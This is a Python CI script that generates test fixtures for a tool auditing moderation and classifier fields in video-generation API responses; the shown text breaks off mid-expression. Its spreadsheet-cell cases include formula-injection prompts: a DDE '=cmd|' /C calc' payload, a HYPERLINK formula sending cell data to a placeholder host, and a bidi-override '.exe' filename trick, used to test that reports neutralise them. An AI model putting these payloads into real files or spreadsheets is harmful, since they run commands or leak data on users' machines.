#!/usr/bin/env python3
"""Writes fixtures/envelopes, fixtures/quickstart and fixtures/responses from the documented answer.

    python3 .ci/make-fixtures.py            writes the files
    python3 .ci/make-fixtures.py --check    writes nothing, exits 1 where a committed file differs

Every generation id and prompt says what the case shows. Answers are the documented one made small: fewer frames and
categories, one encoding, every field name as it is. Links carry the signature MARKER, which no report may ever hold.
Needs Python 3.9 and the `gzip` and `zstd` commands.
"""
import copy
import json
import os
import re
import subprocess
import sys

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "fixtures")
MARKER = "LEAK-MARKER-5f13508c"
LINK = "https://videos.openai.com/vg-assets/assets%2F{}?st=2025-01-14T13%3A28%3A09Z&se=2025-01-20T14%3A28%3A09Z&sp=r&sig=" \
    + MARKER + "%3D"
CATEGORIES = ["C1", "H1", "IMG-S1", "IMG-SH", "IMG-V1", "S1", "S3+", "SH", "V1", "V2+"]

with open(os.path.join(ROOT, "sora-task-documented.json"), encoding="utf-8") as file:
    DOCUMENTED = json.load(file)


# ---------------------------------------------------------------- building answers

def put(owner, path, value):
    """Sets `a.b.c` in nested objects; `3` steps into a list; DROP takes the key away."""
    *steps, last = path.split("/")
    for name in steps:
        owner = owner[int(name)] if isinstance(owner, list) else owner[name]
    if isinstance(owner, list):
        owner[int(last)] = value
    elif value is DROP:
        del owner[last]
    else:
        owner[last] = value


DROP = object()
OUT = "output_moderation_result"
API = OUT + "/filter_results/moderation_api/metadata/global"
U18 = OUT + "/mapper_metadata/u18"
LEGAL = "legal_classifier_result"
MOD = "moderation_result"


def raw(number):
    """A number literal that Python would not write."""
    return "@@RAW " + number + "@@"


def generation(case, prompt=None, title=None, **changes):
    """The documented generation as `gen_CASE`, small; `changes` are paths with `__` for `/`, or `at` {path: value}."""
    g = copy.deepcopy(DOCUMENTED["data"]["data"]["generations"][0])
    for key in ("actions", "caption", "config", "cf_thumbnail_url", "cloudflare_metadata"):
        del g[key]
    g["id"] = "gen_" + case
    g["prompt"] = prompt if prompt is not None else case.replace("_", " ")
    g["title"] = title if title is not None else "Fly Man"
    g["url"] = LINK.format(case + "%2Fwatermarked.mp4")
    source = g["encodings"]["source"]
    source["path"] = LINK.format(case + "%2Fsource.mp4")
    g["encodings"] = {"source": source}
    for name in g[LEGAL]:
        g[LEGAL][name] = g[LEGAL][name][:3]
    scores = g[OUT]["filter_results"]["moderation_api"]["metadata"]["global"]
    g[OUT]["filter_results"]["moderation_api"]["metadata"]["global"] = {k: scores[k] for k in CATEGORIES}
    g[MOD]["task_id"] = g["task_id"] = "task_" + case
    g["user"]["id"] = "user-fixture"
    for path, value in changes.pop("at", {}).items():
        put(g, path, value)
    for path, value in changes.items():
        put(g, path.replace("__", "/"), value)
    return g


def task(case, generations, at=None):
    t = copy.deepcopy(DOCUMENTED["data"]["data"])
    for key in ("actions",):
        del t[key]
    t["id"] = t[MOD]["task_id"] = "task_" + case
    t["prompt"] = case.replace("_", " ")
    t["title"] = "Fly Man"
    t["user"] = "user-fixture"
    t["n_variants"] = max(1, len(generations) if isinstance(generations, list) else 1)
    t["generations"] = generations
    for g in generations if isinstance(generations, list) else ():
        if isinstance(g, dict) and g.get("task_id", "").startswith("task_"):
            g["task_id"] = t["id"]
            if isinstance(g.get(MOD), dict) and "task_id" in g[MOD]:
                g[MOD]["task_id"] = t["id"]
    for path, value in (at or {}).items():
        put(t, path, value)
    return t


def relay(inner, at=None, case=None):
    r = copy.deepcopy(DOCUMENTED)
    r["data"]["data"] = inner
    r["data"]["task_id"] = inner["id"] if isinstance(inner, dict) and "id" in inner else "task_" + (case or "none")
    for path, value in (at or {}).items():
        put(r, path, value)
    return r


def one(case, *args, task_at=None, **changes):
    """A relay answer with the one generation `gen_CASE`."""
    return relay(task(case, [generation(case, *args, **changes)], task_at))


def frames(*triples):
    return [{"l": l, "p": p, "v": v} for l, p, v in triples]


def ip(*scores, length=10):
    """Frames with a label that is not background for the scores given, then background up to the length."""
    return frames(*[(42, p, False) for p in scores], *[(788, 0.98486328125, False)] * (length - len(scores)))


def mark(*scores, length=10):
    return frames(*[(311 if p is None else 57, 0.9990234375 if p is None else p, False) for p in scores],
                  *[(311, 0.9990234375, False)] * (length - len(scores)))


def face(*verdicts, length=10):
    return frames(*[(12 if v else -1, 0.93 if v else 0, v) for v in verdicts], *[(-1, 0, False)] * (length - len(verdicts)))


# ---------------------------------------------------------------- writing texts

def literal(text):
    text = re.sub(r'"@@RAW ([^"]*)@@"', r"\1", text)
    return re.sub(r'"([^"]*)@@again"(\s*:)', r'"\1"\2', text)


def line(value, escape=False):
    return literal(json.dumps(value, ensure_ascii=escape, separators=(",", ":"))).encode("utf-8")


def pretty(value):
    return literal(json.dumps(value, ensure_ascii=False, indent=2)).encode("utf-8")


def ndjson(values):
    return b"".join((v if isinstance(v, bytes) else line(v)) + b"\n" for v in values)


def tool(data, *command):
    return subprocess.run(command, input=data, stdout=subprocess.PIPE, check=True).stdout


# ---------------------------------------------------------------- envelopes

def envelopes(name=""):
    """One of each envelope; the generations say where they are, so that files of one run never share an id."""
    def id(case):
        return "in_" + name + case
    return {
        "relay": one(id("relay")),
        "task": task(id("task"), [generation(id("task"))]),
        "listing": {"task_responses": [task(id("listing_first"), [generation(id("listing_first"))]),
                                       task(id("listing_second"), [generation(id("listing_second_a")),
                                                                   generation(id("listing_second_b"))])],
                    "last_id": "task_" + id("listing_second"), "has_more": False},
        "feed": {"data": [{"ordering_key": 1732147200, "payload": task(id("feed_first"), [generation(id("feed_first"))])},
                          {"ordering_key": 1732147100, "payload": task(id("feed_second"), [generation(id("feed_second"))])}]},
        "array": [one(id("array_as_relay")), task(id("array_as_task"), [generation(id("array_as_task"))]),
                  {"task_responses": [task(id("array_as_listing"), [generation(id("array_as_listing"))])],
                   "last_id": "", "has_more": False},
                  {"data": [{"ordering_key": 1, "payload": task(id("array_as_feed"), [generation(id("array_as_feed"))])}]}],
    }


def envelope_files():
    files = {name + ".json": pretty(value) + b"\n" for name, value in envelopes().items()}
    files["mixed.ndjson"] = ndjson(envelopes("mixed_").values())
    files["pretty.json"] = b"\n".join(pretty(v) for v in envelopes("pretty_").values()) + b"\n"
    files["one-line-many-texts.json"] = b" ".join(line(v) for v in envelopes("same_line_").values()) + b"\n"
    files["crlf-bom.ndjson"] = b"\xef\xbb\xbf" + ndjson(envelopes("crlf_").values()).replace(b"\n", b"\r\n")
    files["blank-lines.ndjson"] = b"\n \n" + ndjson(envelopes("blank_").values()).replace(b"\n", b"\n\t\n\r\n")
    files["no-final-newline.ndjson"] = ndjson(envelopes("unended_").values())[:-1]
    files["relay.json.gz"] = tool(pretty(one("in_gzip")) + b"\n", "gzip", "-n", "-9", "-c")
    files["relay.ndjson.zst"] = tool(ndjson([one("in_zstd")]), "zstd", "-q", "-19", "-c")
    return {"envelopes/" + name: data for name, data in files.items()}


# ---------------------------------------------------------------- responses

def first_day():
    """An ordinary day: every decision, every status of the relay."""
    return [
        one("clear"),
        one("flagged_by_ip_score_max", legal_classifier_result__ip=ip(0.1, 0.97)),
        one("near_by_ip_score_max", legal_classifier_result__ip=ip(0.1, 0.8)),
        one("incomplete_no_legal_classifier_result", legal_classifier_result=DROP),
        waiting("not_started", "NOT_START", None),
        waiting("queued", "QUEUED", "queued"),
        waiting("in_progress", "IN_PROGRESS", "running"),
        failed("failed", "FAILURE", "failed", "internal_error"),
        one("seen_again_on_the_next_day"),
        one("seen_twice_in_one_file"),
        one("seen_twice_in_one_file", "the second answer is flagged but is a duplicate",
            legal_classifier_result__ip=ip(0.99)),
        relay(task("with_four_variants", [
            generation("variant_1_clear"),
            generation("variant_2_flagged_by_verdict", legal_classifier_result__face=face(False, True)),
            generation("variant_3_near_by_sexual", at={API + "/S1": 0.45}),
            generation("variant_4_clear")])),
    ]


def waiting(case, relay_status, status):
    inner = None if status is None else task(case, [], {"status": status})
    return relay(inner, {"data/status": relay_status, "data/finish_time": 0, "data/progress": "0%"}, case)


def failed(case, relay_status, status, reason):
    return relay(task(case, [], {"status": status, "failure_reason": reason}),
                 {"data/status": relay_status, "data/fail_reason": reason}, case)


def second_day():
    return [
        one("seen_again_on_the_next_day", "the second answer is flagged but is a duplicate across files",
            legal_classifier_result__face=face(True)),
        one("clear_on_the_next_day"),
        relay(task("clear_and_known_variants", [generation("clear_on_the_next_day"), generation("new_next_to_a_duplicate")])),
        failed("rejected_by_moderation", "FAILURE", "rejected", "content_policy"),
    ]


def thresholds():
    ip_at, api = "legal_classifier_result__ip", API
    # 0.6 + 0.95 + 0.05 is just below 1.6 in doubles, 0.05 + 0.6 + 0.95 is 1.6: the mean of four is below or at 0.4.
    return [
        one("ip_max_exactly_at_flag_at", **{ip_at: ip(0.9)}),
        one("ip_max_just_below_flag_at", **{ip_at: ip(0.8999999999999999)}),
        one("near_exactly_at_near_at", **{ip_at: ip(0.75)}),
        one("ip_max_just_below_near_at", **{ip_at: ip(0.7499999999999999)}),
        one("label_is_background_and_v_is_true", **{ip_at: frames((788, 0.95, True), (788, 0.9, False))}),
        one("label_is_background_and_v_is_false", **{ip_at: frames((788, 1, False), (788, 0.99, False))}),
        one("label_is_background_of_another_classifier", **{ip_at: frames((311, 0.95, False), (788, 0.9, False))}),
        one("label_788_written_as_788.0", **{ip_at: frames((788.0, 0.95, False), (raw("7.88e2"), 0.95, False))}),
        one("label_not_background", **{ip_at: frames((787, 0.95, False), *[(788, 0.9, False)] * 3)}),
        one("mean_exactly_at_flag_at", legal_classifier_result__trademark=mark(*[0.25] * 2, *[1, 0.5] * 1, length=4)),
        one("mean_exactly_at_default_near_at", legal_classifier_result__trademark=mark(0.4, length=1)),
        one("mean_just_below_near_at_when_added_in_frame_order",
            legal_classifier_result__trademark=mark(0, 0.6, 0.95, 0.05, length=4)),
        one("mean_at_near_at_with_the_same_frames_in_another_order",
            legal_classifier_result__trademark=mark(0, 0.05, 0.6, 0.95, length=4)),
        one("share_exactly_at_flag_at", **{ip_at: ip(0.5, 0.6, 0.5, length=4)}),
        one("share_exactly_at_near_at", **{ip_at: ip(0.5, 0.5, length=4)}),
        one("share_just_below_frame_at", **{ip_at: ip(0.49999999999999994, 0.5, 0.4, length=4)}),
        one("run_exactly_at_flag_at", legal_classifier_result__trademark=mark(*[0.6] * 4)),
        one("run_exactly_at_near_at", legal_classifier_result__trademark=mark(0.6, None, 0.6, 0.6, 0.6)),
        one("run_broken_by_a_background_frame", legal_classifier_result__trademark=mark(0.6, 0.6, None, 0.6, 0.6)),
        one("count_exactly_at_flag_at", legal_classifier_result__trademark=mark(*[0.3, None] * 6, length=12)),
        one("count_exactly_at_near_at", legal_classifier_result__trademark=mark(*[0.3, None] * 5, length=12)),
        one("verdict_true_in_the_last_frame", legal_classifier_result__face=face(*[False] * 9, True)),
        one("verdict_count_exactly_at_near_at", legal_classifier_result__face=face(True, False, True)),
        one("verdict_count_exactly_at_flag_at", legal_classifier_result__face=face(True, False, True, True)),
        one("verdict_of_trademark_as_number_1", legal_classifier_result__trademark=frames((311, 0.2, True), (311, 0.9, False))),
        one("category_exactly_at_flag_at", at={api + "/S3+": 0.5}),
        one("category_exactly_at_default_near_at_0.4", at={api + "/IMG-S1": 0.4}),
        one("category_just_below_default_near_at_0.4", at={api + "/S1": 0.39999999999999997}),
        one("category_exactly_at_default_near_at_0.72", at={api + "/V2+": 0.72}),
        one("category_exactly_at_flag_at_0.9", at={api + "/V1": 0.9}),
        one("category_just_below_default_near_at_0.72", at={api + "/V2+": 0.7199999999999999}),
        one("category_in_another_scope", at={OUT + "/filter_results/moderation_api/metadata/frame_3": {"S1": 0.6}}),
        one("risk_level_exactly_at_near_at", at={OUT + "/risk_level": 1}),
        one("risk_level_above_flag_at", at={OUT + "/risk_level": 3}),
        one("child_realistic_sexual_exactly_at_flag_at",
            at={U18 + "/is_child": True, U18 + "/is_realistic": True, api + "/S3+": 0.1}),
        one("child_realistic_sexual_exactly_at_near_at",
            at={U18 + "/is_child": True, U18 + "/is_realistic": True, api + "/S1": 0.05}),
        one("child_realistic_but_nothing_sexual", at={U18 + "/is_child": True, U18 + "/is_realistic": True}),
        one("sexual_below_0.4_without_a_child", at={api + "/S1": 0.3}),
        one("child_drawn_with_self_harm", at={U18 + "/is_child": True, api + "/IMG-SH": 0.2}),
        one("child_drawn_with_violence_near", at={U18 + "/is_child": True, api + "/V1": 0.2}),
    ]


def review_queue():
    """A listing as a person saves it, pretty-printed: the platform's own reasons to hold a generation back."""
    filters = OUT + "/filter_results/"
    return {"task_responses": [
        task("review_of_filters", [
            generation("filter_type_not_passed", at={filters + "wellknown_figure/type": "flagged",
                                                     filters + "wellknown_figure/reason": "looks like a known person",
                                                     filters + "wellknown_figure/labels": ["person"],
                                                     filters + "wellknown_figure/flagged_indices": [0, 2]}),
            generation("filter_type_Passed_with_capital", at={filters + "election_misinformation/type": "Passed"}),
            generation("output_type_not_passed", at={OUT + "/type": "blocked"}),
            generation("output_is_flagged", at={OUT + "/is_flagged": True}),
            generation("output_is_terminal", at={OUT + "/is_terminal": True}),
        ]),
        task("review_of_moderation", [
            generation("moderation_rejection", at={MOD + "/is_output_rejection": True, MOD + "/type": "output_rejected",
                                                   MOD + "/code": "content_policy"}),
            generation("moderation_type_not_passed", at={MOD + "/type": "soft_block"}),
            generation("moderation_code_not_in_the_list", at={MOD + "/code": "copyright"}),
        ]),
        task("task_moderation_code_in_the_list", [generation("task_moderation_code_in_the_list")],
             {MOD + "/code": "minor_safety", MOD + "/type": "input_flagged"}),
        task("task_needs_user_review", [generation("task_needs_user_review")], {"needs_user_review": True}),
    ], "last_id": "task_task_needs_user_review", "has_more": True}


def agreement():
    return [
        one("agreement_both", legal_classifier_result__face=face(True)),
        one("agreement_policy_only", legal_classifier_result__ip=ip(0.95)),
        one("agreement_policy_only_though_output_type_differs", at={OUT + "/type": "blocked"}),
        one("agreement_platform_only_and_clear", at={MOD + "/type": "soft_block"}),
        one("agreement_platform_only_and_near", at={MOD + "/type": "soft_block", API + "/S1": 0.45}),
        one("agreement_neither_and_near", at={API + "/S1": 0.45}),
        one("agreement_neither_and_clear"),
    ]


def missing_blocks():
    legal = "legal_classifier_result__"
    return [
        one("missing_output_moderation_result", output_moderation_result=DROP),
        one("missing_output_moderation_result_null", output_moderation_result=None),
        one("missing_legal_classifier_result", legal_classifier_result=DROP),
        one("missing_legal_classifier_result_null", legal_classifier_result=None),
        one("missing_legal_classifier_result_empty_object", legal_classifier_result={}),
        one("missing_ip_null", **{legal + "ip": None}),
        one("missing_ip_empty_list", **{legal + "ip": []}),
        one("missing_ip_absent", **{legal + "ip": DROP}),
        one("missing_ip_but_flagged_by_face", **{legal + "ip": [], legal + "face": face(True)}),
        one("missing_ip_but_near_by_sexual", **{legal + "ip": [], "at": {API + "/S1": 0.4}}),
        one("missing_moderation_result", moderation_result=DROP),
        one("missing_task_moderation_result", task_at={MOD: None}),
        one("missing_filter_results", at={OUT + "/filter_results": None}),
        one("missing_metadata_of_moderation_api", at={OUT + "/filter_results/moderation_api/metadata": None}),
        one("missing_category_null", at={API + "/S1": None}),
        one("missing_category_null_but_another_flagged", at={API + "/S1": None, API + "/S3+": 0.8}),
        one("missing_filter_type_null_is_not_seen_by_the_pattern", at={OUT + "/filter_results/wellknown_figure/type": None}),
        one("missing_u18_with_a_sexual_score", at={OUT + "/mapper_metadata": {}, API + "/S1": 0.2}),
        one("missing_u18_is_clear_where_another_part_of_all_is", at={OUT + "/mapper_metadata": {}}),
        one("missing_output_type_flags_by_missing_mode_flag", at={OUT + "/type": None}),
        one("missing_style_and_code_are_ignored"),
        one("missing_only_optional_fields", seed=None, title=None, at={"user": None, "model": None, "created_at": None}),
    ]


def odd_answers():
    legal, filters = "legal_classifier_result__", OUT + "/filter_results/"
    return [
        one("defect_score_1.5", at={API + "/S1": 1.5}),
        one("defect_score_negative", at={API + "/S1": -0.01}),
        one("defect_score_text", at={API + "/S1": "0.9"}),
        one("defect_score_boolean", at={API + "/S1": True}),
        one("defect_score_1e400", at={API + "/S1": raw("1e400")}),
        one("sound_score_1e-400_is_zero", at={API + "/S1": raw("1e-400")}),
        one("sound_score_exactly_one_written_as_1.0e0", at={API + "/C1": raw("1.0e0")}),
        one("defect_score_given_twice", at={API + "/S3+@@again": 0.2}),
        one("defect_frame_without_l_p_v", **{legal + "ip": [{}, *ip(length=2)]}),
        one("defect_frame_null", **{legal + "ip": [*ip(length=2), None]}),
        one("defect_frame_p_text", **{legal + "ip": [{"l": 42, "p": "0.99", "v": False}, *ip(length=2)]}),
        one("defect_frame_p_above_one", **{legal + "ip": [{"l": 42, "p": 1.0000000000000002, "v": False}, *ip(length=2)]}),
        one("defect_frame_label_788.5", **{legal + "ip": [{"l": 788.5, "p": 0.5, "v": False}, *ip(length=2)]}),
        one("defect_frame_label_over_64_bits",
            **{legal + "ip": [{"l": raw("9223372036854775808"), "p": 0.5, "v": False}, *ip(length=2)]}),
        one("sound_frame_label_of_64_bits",
            **{legal + "ip": [{"l": raw("9223372036854775807"), "p": 0.5, "v": False}, *ip(length=2)]}),
        one("defect_frame_label_boolean", **{legal + "ip": [{"l": True, "p": 0.5, "v": False}, *ip(length=2)]}),
        one("defect_frame_verdict_is_0", **{legal + "face": [{"l": -1, "p": 0, "v": 0}, *face(length=2)]}),
        one("defect_frame_p_given_twice",
            **{legal + "ip": [{"l": 42, "p": 0.1, "p@@again": 0.99, "v": False}, *ip(length=2)]}),
        one("partial_series_flagged_by_a_sound_frame", **{legal + "ip": [None, *ip(0.95, length=3)]}),
        one("partial_series_near_by_a_sound_frame", **{legal + "ip": [None, *ip(0.8, length=3)]}),
        one("partial_series_run_broken_by_the_defect",
            **{legal + "trademark": [*mark(0.6, 0.6, length=2), None, *mark(0.6, 0.6, length=8)]}),
        one("partial_series_share_over_sound_frames", **{legal + "ip": [*ip(0.5, 0.5, 0.5, length=4), None, None]}),
        one("partial_series_of_defects_only", **{legal + "ip": [None, {}]}),
        one("defect_classifier_not_a_list", **{legal + "ip": {"0": {"l": 788, "p": 0.9, "v": False}}}),
        one("defect_legal_classifier_result_is_a_list", legal_classifier_result=[]),
        one("defect_output_moderation_result_is_a_text", output_moderation_result="passed"),
        one("defect_is_flagged_is_a_text", at={OUT + "/is_flagged": "true"}),
        one("defect_is_child_is_1_with_a_sexual_score", at={U18 + "/is_child": 1, U18 + "/is_realistic": True, API + "/S1": 0.2}),
        one("defect_risk_level_is_a_text", at={OUT + "/risk_level": "0"}),
        one("defect_filter_type_is_a_boolean", at={filters + "wellknown_figure/type": True}),
        one("defect_moderation_code_is_a_number", at={MOD + "/code": 400}),
        one("defect_title_is_an_object_with_a_link", at={"title": {"link": LINK.format("title.mp4")}}),
        one("defect_width_is_a_text", width="854"),
        one("defect_of_the_task_needs_user_review_is_a_text", task_at={"needs_user_review": "no"}),
        one("without_id_first", id=DROP),
        one("without_id_second_is_no_duplicate", id=None),
        one("without_id_number", id=7),
        relay(task("generation_that_is_no_object", [generation("next_to_a_generation_that_is_no_object"), "gen", None])),
        one("huge_integer_in_an_unknown_field", at={"progress_pos_in_queue": raw("9" * 400)}),
        one("huge_exponent_in_an_unknown_field", at={"progress_pos_in_queue": raw("1e999")}),
        line(one("lone_surrogate_in_the_prompt", "half of an emoji: \ud83d and on"), escape=True),
        one("nesting_of_1000_is_read", at={"sdedit": raw("[" * 990 + "]" * 990)}),
        # The names of an answer are open.
        one("unknown_classifier_style_flagged", **{legal + "style": frames((5, 0.8, False))}),
        one("unknown_filter_deepfake", at={filters + "deepfake": {"flagged_indices": [1], "labels": ["swap"],
                                                                  "metadata": {"frame_3": {"D1": 0.7}}, "reason": "face swap",
                                                                  "type": "flagged"}}),
        one("unknown_scope_frame_3", at={filters + "moderation_api/metadata/frame_3": {"IMG-S1": 0.5}}),
        one("unknown_category_Z9", at={API + "/Z9": 0.99}),
        one("unknown_model_and_operation", model="turbo-9", operation="time_travel"),
        one("names_with_dots_stars_and_blanks", at={API + "/S 1.x*%": 0.6, filters + "a.b": {"type": "passed"}}),
        one("names_that_differ_only_in_unicode_form", at={API + "/S\u00e9": 0.1, API + "/Se\u0301": 0.7}),
        one("id_in_unicode_form_caf\u00e9"),
        one("id_in_unicode_form_cafe\u0301"),
        # Moderation content that the records do not know.
        one("unrecognised_results_by_frame_index", at={MOD + "/results_by_frame_index": {"3": {"type": "blocked"}}}),
        one("unrecognised_safety_classifier_result",
            safety_classifier_result=[{"image": LINK.format("frame3.webp"), "category": "gore", "score": 0.9}]),
        one("unrecognised_rewrite_results", at={OUT + "/rewrite_results": {"prompt": "a fly"}}),
        one("unrecognised_mapper", at={OUT + "/mapper_metadata/likeness": {"is_real_person": True}}),
        one("unrecognised_mapper_that_is_empty_does_not_count", at={OUT + "/mapper_metadata/likeness": {}}),
        one("unrecognised_key_of_output_moderation_result", at={OUT + "/second_opinion": {"type": "flagged"}}),
        one("unrecognised_key_of_a_filter", at={filters + "wellknown_figure/confidence": 0.4}),
        one("unrecognised_key_of_the_generation", at={"audio_moderation_result": {"type": "flagged"},
                                                      "voice_classifier_result": [1], "empty_classifier_result": []}),
        one("unrecognised_key_with_a_slash", at={OUT + "/mapper_metadata": {
            "u18": {"is_child": False, "is_realistic": False}, "a/b~c": {"x": 1}}}),
    ]


def spreadsheet_cells():
    """Prompts and titles that a spreadsheet would run, cut or show wrongly. All flagged, so that every one is listed."""
    def cell(case, prompt, title=None, escape=False):
        return line(one("cell_" + case, prompt, title or prompt[:80], at={OUT + "/is_flagged": True}), escape)
    return [
        cell("hyperlink", '=HYPERLINK("https://example.invalid/?x="&A1,"click")'),
        cell("command", "=cmd|' /C calc'!A0"),
        cell("plus", "+cmd|' /C calc'!A0"),
        cell("minus", "-1+1"),
        cell("number", "-12.5"),
        cell("at", "@SUM(A1:A9)"),
        cell("tab_start", "\t=1+1"),
        cell("cr_start", "\r=1+1"),
        cell("lf_start", "\n=1+1"),
        cell("tab_then_text", "\tindented"),
        cell("spaces_then_equals", "   =1+1"),
        cell("no_break_space_then_equals", "\u00a0=1+1"),
        cell("zero_width_space_then_equals", "\u200b=1+1"),
        cell("bom_then_equals", "\ufeff=1+1"),
        cell("word_joiner_and_blanks_then_at", " \u2060 \u200d@SUM(1)"),
        cell("right_to_left_mark_then_equals", "\u200f=1+1"),
        cell("full_width_equals", "\uff1d1+1"),
        cell("apostrophe", "'=1+1"),
        cell("equals_inside", "a=b"),
        cell("quotes", 'she said "fly, man"; and left'),
        cell("quote_only", '"'),
        cell("semicolon_and_comma", "a;b,c"),
        cell("newlines", "first line\nsecond line\r\nthird line\rfourth line"),
        cell("control_characters", "bell \x07, escape \x1b[31m, delete \x7f, next line \x85, end"),
        cell("nul", "before\x00after"),
        cell("line_separators", "a\u2028b\u2029c"),
        cell("right_to_left", "\u0631\u062c\u0644 \u0630\u0628\u0627\u0628\u0629 \u064a\u0637\u064a\u0631 and \u05d0\u05d9\u05e9"),
        cell("bidi_override", "file \u202egpj.exe\u202c and \u2066isolated\u2069", escape=True),
        cell("emoji", "a fly \U0001fab0 and a family \U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 "
             "and a flag \U0001f1eb\U0001f1f7 and a tone \U0001f44d\U0001f3fd"),
        cell("emoji_escaped", "a fly \U0001fab0 in escapes", escape=True),
        cell("combining", "Z\u0353\u035a\u035ca\u0334\u033dl\u0322go and e\u0301"),
        cell("40000_characters", "fly man " * 5000, "40,000 characters"),
        cell("40000_emoji", "\U0001fab0" * 40000, "40,000 emoji, each two UTF-16 units"),
        cell("exactly_32767_characters", "x" * 32767, "exactly 32,767 characters"),
        cell("32768_characters", "y" * 32768, "32,768 characters"),
        cell("cut_inside_an_emoji", "z" * 32760 + "\U0001fab0" * 8, "the cut falls inside an emoji"),
        cell("32767_characters_with_equals", "=" + "x" * 32766, "the guard makes it one character too long"),
        cell("empty", "", "an empty prompt"),
        cell("blank_only", "   ", "a prompt of blanks"),
        cell("looks_like_a_date", "2026-11-22", "MARCH1"),
        cell("looks_like_a_long_number", "12345678901234567890", "1E5"),
        cell("looks_like_a_cut", "ends as a cut one does \u2026[cut]"),
    ]


def broken_lines():
    """Each broken line stands between two sound ones and costs only itself."""
    whole = line(one("never_seen_because_truncated"))
    bad_utf8 = line(one("never_seen_because_not_utf8", "@@here@@"))
    def sound(case):
        return line(one("after_" + case))
    return [
        sound("nothing"),
        whole[:whole.index(MARKER.encode()) + len(MARKER) + 20],  # cut after a link: no reason may quote it
        sound("a_truncated_line"),
        b"Bad Gateway: upstream said no",
        sound("a_garbage_line"),
        bad_utf8.replace(b"@@here@@", b"caf\xe9"),
        sound("an_invalid_utf8_line"),
        bad_utf8.replace(b"@@here@@", b"\xed\xa0\x80"),
        sound("an_encoded_surrogate"),
        bad_utf8.replace(b"@@here@@", b"\xc0\xaf"),
        sound("an_overlong_form"),
        line(one("never_seen_because_too_deep", at={"sdedit": raw("[" * 1100 + "]" * 1100)})),
        sound("a_line_nested_too_deep"),
        line(one("never_seen_because_of_a_raw_control_character", "@@here@@")).replace(b"@@here@@", b"a\x01b"),
        sound("a_raw_control_character"),
        line(one("never_seen_because_of_nan", at={API + "/S1": raw("NaN")})),
        sound("a_nan"),
        line(one("never_seen_because_of_a_leading_zero", at={API + "/S1": raw("00.5")})),
        sound("a_leading_zero"),
        whole.replace(b"never_seen_because_truncated", b"never_seen_because_of_single_quotes").replace(b'"', b"'"),
        sound("single_quotes"),
        b'{"hello":"world"}',
        sound("an_unknown_envelope"),
        b"42",
        sound("a_number"),
        b"null",
        sound("a_null"),
        b'"text"',
        sound("a_text"),
        whole[:200],  # cut at the end of the file
    ]


def unaudited():
    def bare(case, at, relay_at=None):
        return relay(task(case, [], at), relay_at)
    def refused(code, data):
        return {"code": code, "message": "the relay said no", "data": data}
    nothing = {"status": None, "failure_reason": None}
    return [
        refused("invalid_api_key", None),
        refused("task_not_exist", {"task_id": "task_api_error_with_an_id", "status": "", "data": None}),
        relay(task("api_error_goes_before_failed", [], {"status": "failed"}), {"code": "upstream_error"}),
        relay(task("audited_whatever_the_code", [generation("audited_whatever_the_code")]), {"code": "upstream_error"}),
        relay(None, {"data/status": "NOT_START"}, "pending_not_start"),
        relay(None, {"data/status": "QUEUED"}, "pending_queued"),
        relay(None, {"data/status": "IN_PROGRESS", "data/progress": "30%"}, "pending_in_progress"),
        relay(None, {"data/status": "SOMETHING_NEW"}, "pending_unknown_status"),
        bare("pending_status_of_the_task_goes_first", {"status": "running"}, {"data/status": "SUCCESS"}),
        bare("pending_without_the_key_generations", {"status": "queued", "generations": DROP}),
        relay(None, {"data/status": "FAILURE", "data/fail_reason": "upstream timeout"}, "failed_by_the_relay"),
        bare("failed_by_the_task", {"status": "failed", "failure_reason": "internal_error"}),
        bare("failed_rejected", {"status": "rejected"}),
        bare("failed_cancelled_in_capitals", {"status": "CANCELLED"}),
        bare("failed_expired", {"status": "expired"}),
        bare("failed_succeeded_with_a_failure_reason", {"failure_reason": "content_policy"}),
        bare("failed_succeeded_with_a_fail_reason_of_the_relay", {}, {"data/fail_reason": "moderation"}),
        bare("failed_succeeded_with_an_output_rejection", {MOD + "/is_output_rejection": True}),
        bare("empty_succeeded", {"status": "succeeded"}),
        bare("empty_completed", {"status": "Completed"}),
        bare("empty_without_any_status", nothing, {"data/status": DROP}),
        relay(None, {"data/status": "SUCCESS"}, "empty_relay_without_task"),
        task("empty_bare_task", []),
        task("unreadable_generations_is_an_object", {"0": {}}),
        [],
        {"task_responses": [], "last_id": None, "has_more": False},
        {"data": []},
        [task("empty_in_an_array", []), 7, {"no": "envelope"}, task("audited_in_an_array", [generation("audited_in_an_array")])],
        {"task_responses": [task("failed_in_a_listing", [], {"status": "failed"}),
                            task("audited_in_a_listing", [generation("audited_in_a_listing")])],
         "last_id": "", "has_more": False},
        {"data": [{"ordering_key": 2, "payload": "not a task"}, {"ordering_key": 1, "payload": task(
            "audited_in_a_feed", [generation("audited_in_a_feed")])}, "not an entry"]},
    ]


def response_files():
    return {"responses/" + name: data for name, data in {
        "2026-11-20.ndjson": ndjson(first_day()),
        "2026-11-21.ndjson": ndjson(second_day()),
        "agreement.ndjson": ndjson(agreement()),
        "broken-lines.ndjson": ndjson(broken_lines()),
        "missing-blocks.ndjson": ndjson(missing_blocks()),
        "odd-answers.ndjson": ndjson(odd_answers()),
        "review-queue.json": pretty(review_queue()) + b"\n",
        "spreadsheet-cells.ndjson": ndjson(spreadsheet_cells()),
        "thresholds.ndjson": ndjson(thresholds()),
        "unaudited.ndjson": ndjson(unaudited()),
    }.items()}


# ---------------------------------------------------------------- quickstart

def whole_answer(case, prompt, title, at=None, **changes):
    """The generation `gen_quickstart_CASE` with ten frames for each classifier and every documented category."""
    given = {LEGAL + "__face": face(), LEGAL + "__ip": ip(), LEGAL + "__trademark": mark(), **changes}
    g = generation("quickstart_" + case, prompt, title, **given)
    put(g, API, copy.deepcopy(DOCUMENTED["data"]["data"]["generations"][0][OUT]["filter_results"]["moderation_api"]
                              ["metadata"]["global"]))
    for path, value in (at or {}).items():
        put(g, path, value)
    return g


def quickstart():
    """A first look at a report: the built-in policy audits all of it, with flagged, near and clear generations."""
    def answer(task_case, *generations):
        t = task("quickstart_" + task_case, list(generations))
        t["prompt"], t["title"] = generations[0]["prompt"], generations[0]["title"]
        return relay(t)
    legal = LEGAL + "__"
    figure = OUT + "/filter_results/wellknown_figure/"
    return [
        answer("harbour", whole_answer("harbour", "a harbour at dawn, seen from a drone", "Harbour at Dawn")),
        answer("mouse", whole_answer(
            "ip_flagged", "a cheerful cartoon mouse conducts an orchestra", "The Mouse Conducts",
            **{legal + "ip": frames((42, 0.41, False), (42, 0.93, True), (42, 0.97, True), (42, 0.95, True),
